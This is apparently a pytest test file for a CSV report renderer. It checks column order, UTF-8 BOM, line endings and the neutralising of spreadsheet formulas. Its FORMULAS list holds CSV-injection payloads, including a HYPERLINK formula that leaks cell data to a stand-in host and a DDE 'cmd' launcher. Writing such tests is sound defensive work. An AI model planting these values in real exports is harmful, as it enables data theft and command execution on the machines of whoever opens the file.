"""The CSV: the contract's columns, readable by Excel, and no cell that a spreadsheet would calculate."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.model.finding import FINDING_KEYS
from reports.render.csv import BOM, COLUMNS, guarded, render
from tests.reports.golden import check
from tests.reports.sample import report

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1,"k")', "+cmd|'/c calc'!A1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\0=1", " =1+1", "＝1+1", "=cmd;x", '="a"',
)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=";", strict=True))


def test_the_sample_night_looks_as_it_did() -> None:
    check("report.csv", render(report()))


def test_columns_are_the_contracts_in_its_order() -> None:
    header = render(report()).removeprefix(BOM).split("\r\n")[0].split(";")
    assert tuple(header[:len(FINDING_KEYS)]) == FINDING_KEYS
    assert tuple(header) == COLUMNS


def test_excel_sees_utf8_and_every_line_ends_as_rfc_4180_says() -> None:
    text = render(report())
    assert text.encode().startswith(b"\xef\xbb\xbf")
    assert text.replace("\r\n", "").count("\n") == 0
    assert len(rows(text)) == len(report().findings)


@pytest.mark.parametrize("word", FORMULAS)
def test_no_cell_is_a_formula(word: str) -> None:
    data = report()
    findings = tuple(replace(one, display_name=word, username=word, summary=word, advice=(word,)) for one in data.findings)
    text = render(replace(data, findings=findings))
    for row in rows(text):
        for name, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\0", "＝")), (name, cell)
    assert rows(text)[0]["display_name"].startswith(("'", "\\u{"))


@given(st.text(max_size=20))
def test_a_guarded_cell_never_starts_as_a_formula(cell: str) -> None:
    assert not guarded(cell).startswith(("=", "@", "-", "\t=", "\r"))
    assert guarded(cell).removeprefix("'") == cell.removeprefix("'")


def test_phone_numbers_stay_readable() -> None:
    assert guarded("+31 6 12345678") == "+31 6 12345678"
    assert guarded("+31612345678") == "+31612345678"
    assert guarded("+31-6+1") == "'+31-6+1"


def test_raw_is_for_programs_and_gives_values_back_as_they_were() -> None:
    word = "=1;\"\u202e\nx"
    data = report()
    text = render(replace(data, findings=(replace(data.findings[0], display_name=word),)), raw=True)
    assert not text.startswith(BOM)
    assert rows(text)[0]["display_name"] == word


def test_hidden_characters_are_seen() -> None:
    data = report()
    text = render(replace(data, findings=(replace(data.findings[0], display_name="a\u202eb\n"),)))
    assert rows(text)[0]["display_name"] == r"a\u{202e}b\u{a}"
